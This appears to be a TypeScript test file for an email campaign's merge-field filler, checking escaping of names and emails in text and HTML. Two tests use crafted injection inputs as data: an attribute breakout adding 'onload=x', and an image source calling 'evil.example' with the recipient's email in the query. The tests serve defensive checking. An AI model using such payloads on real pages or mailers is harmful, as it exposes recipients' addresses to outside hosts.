import { fillMergeFields, fillMergeFieldsInHtml, type MergeValues } from '#contract/campaigns/merge.ts'
import { escapeHtml } from '#server/platform/core/html.ts'

const nobody = { name: null, email: null, country: null }
const luca = { name: 'Luca "L" <b>', email: 'luca@example.org', country: null }
const inHtml = (html: string, values: MergeValues = luca) => fillMergeFieldsInHtml(html, values, escapeHtml)

describe('merge fields', () => {
  test('are filled in, with lists of missing values and unknown fields', () => {
    expect(fillMergeFields('Hello {{name|friend}}, {{ email }} in {{country}} and {{town|x}}', luca)).toEqual({
      text: 'Hello Luca "L" <b>, luca@example.org in  and ',
      missing: ['country'],
      unknown: ['town'],
    })
    expect(fillMergeFields('Hello {{name|"friend"}}', nobody).text).toBe('Hello "friend"')
  })

  test('in HTML escape markup, in text and in attribute values', () => {
    expect(inHtml('<p title="Of {{name}}">Hello {{name}}</p>').text).toBe(
      '<p title="Of Luca &quot;L&quot; &lt;b&gt;">Hello Luca &quot;L&quot; &lt;b&gt;</p>',
    )
    expect(inHtml('<p>Hello {{name|"my" friend}}</p>', nobody).text).toBe('<p>Hello "my" friend</p>')
  })

  test.each(['a text behind it', 'another attribute'])(
    'in HTML never extend from an attribute value into %s',
    (into) => {
      const html =
        into === 'another attribute'
          ? '<img alt="{{name|" src="https://own.example/a.png" title="}} onload=x">'
          : '<p><img alt="{{name|" src="https://own.example/a.png"></p><p>}}" src=https://evil.example/?u={{email}} x="</p>'
      const { text } = inHtml(html)
      expect(text).toContain('<img alt="{{name|" src="https://own.example/a.png"')
      expect(text).not.toMatch(/<[^>]*src=https:\/\/evil/)
    },
  )

  test('in HTML never span several elements', () => {
    const html = '<p>{{name|</p><img src="https://own.example/a.png" alt=""><p>}}</p>'
    expect(inHtml(html)).toEqual({ text: html, missing: [], unknown: [] })
  })
})
